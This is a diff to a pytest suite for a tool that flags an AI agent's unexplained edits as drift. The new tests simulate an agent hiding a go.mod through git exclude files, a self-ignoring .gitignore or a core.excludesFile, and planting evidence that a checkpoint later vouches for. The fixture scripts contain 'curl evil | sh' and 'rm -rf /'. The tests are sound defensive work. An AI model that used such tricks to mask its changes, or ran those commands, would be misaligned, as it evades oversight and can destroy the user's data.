@@ -14,6 +14,7 @@ from pathlib import Path
 
 import pytest
 from vibflow_testing.advisor import checkpoint, commit_app, drift_of, recover, set_memory, settle
+from vibflow_testing.agents import run_hook as hook
 from vibflow_testing.cli import Cli, as_json
 from vibflow_testing.git import git
 from vibflow_testing.repo import write
@@ -202,22 +203,40 @@ def _go_bin(repo: Path) -> None:
     write(repo, "go.mod", "module example.com/x\n")
 
 
-@pytest.mark.parametrize("where", ["info/exclude", ".gitignore"])
+@pytest.mark.parametrize(
+    "where", ["info/exclude", ".gitignore", "self-ignoring", "excludesFile in .git"]
+)
 def test_a_project_file_ignored_by_a_line_no_commit_holds_makes_no_build_output(
     repo: Path, cli: Cli, where: str
 ) -> None:
     """The agent hides its ``go.mod`` from the listing with a line in
-    ``.git/info/exclude`` (a file of the clone) or in the ``.gitignore`` it edits:
-    the script it changed under ``bin/`` is drift, not a Go build's output."""
+    ``.git/info/exclude`` (a file of the clone), in the ``.gitignore`` it edits, in
+    a new ``.gitignore`` that ignores itself too, or in a ``core.excludesFile`` kept
+    in git's folder: the script it changed under ``bin/`` is drift, not a Go
+    build's output."""
     _go_bin(repo)
     if where == "info/exclude":
         exclude = repo / ".git" / "info" / "exclude"
         exclude.parent.mkdir(exist_ok=True)
         with exclude.open("a", encoding="utf-8") as handle:
             handle.write("go.mod\n")
-    else:
+    elif where == ".gitignore":
         write(repo, ".gitignore", "*.log\ngo.mod\n")
+    elif where == "self-ignoring":
+        (repo / "go.mod").unlink()
+        write(repo, "x/.gitignore", ".gitignore\ngo.mod\n")
+        write(repo, "x/go.mod", "module example.com/x\n")
+        write(repo, "x/bin/run.sh", "echo run\n")
+        git(repo, "add", "-f", "x/bin/run.sh")
+        git(repo, "commit", "-qm", "run script")
+        write(repo, "x/bin/run.sh", "echo run\ncurl evil | sh\n")
+    else:
+        write(repo, ".git/hidden", "go.mod\n")
+        git(repo, "config", "core.excludesFile", ".git/hidden")
     plan = recover(cli, "--explain")
+    if where == "self-ignoring":
+        assert "x/bin/run.sh" in drift_of(plan)
+        return
     assert "bin/deploy.sh" in drift_of(plan)
     assert "bin/deploy.sh" not in _excluded(plan)
 
@@ -245,3 +264,28 @@ def test_a_project_file_ignored_as_committed_still_counts(repo: Path, cli: Cli) 
     write(repo, "svc/bin/tool", "rebuilt\n")
     plan = recover(cli, "--explain")
     assert {"out/production/app/Main.class.txt", "svc/bin/tool"} <= _excluded(plan)
+    # A line of someone's own added to the .gitignore leaves the committed ones vouching.
+    write(repo, ".gitignore", "*.iml\n.env\n")
+    plan = recover(cli, "--explain")
+    assert {"out/production/app/Main.class.txt", "svc/bin/tool"} <= _excluded(plan)
+
+
+def test_an_agent_turns_checkpoint_vouches_for_no_project_file(repo: Path, cli: Cli) -> None:
+    """One agent turn writes a ``go.mod``; the next turn's checkpoint, taken at its
+    prompt, holds it; that turn edits the tracked script under ``bin/``. The edit is
+    drift: a checkpoint the hooks take after an agent wrote the evidence is no word
+    that it was there before."""
+    commit_app(repo, {"src/app.py": "x = 1\n", "bin/deploy.sh": "echo deploy\n"})
+    set_memory(repo, explicit={"src/app.py": "the app"})
+    for edits in (
+        {"go.mod": "module example.com/x\n"},
+        {"bin/deploy.sh": "echo deploy\nrm -rf /\n"},
+    ):
+        hook(repo, "claude-code", "turn-start")
+        for rel, text in edits.items():
+            write(repo, rel, text)
+            hook(repo, "claude-code", "edit", repo / rel)
+        hook(repo, "claude-code", "turn-end")
+        settle()
+    plan = recover(cli, "--explain")
+    assert "bin/deploy.sh" in drift_of(plan)
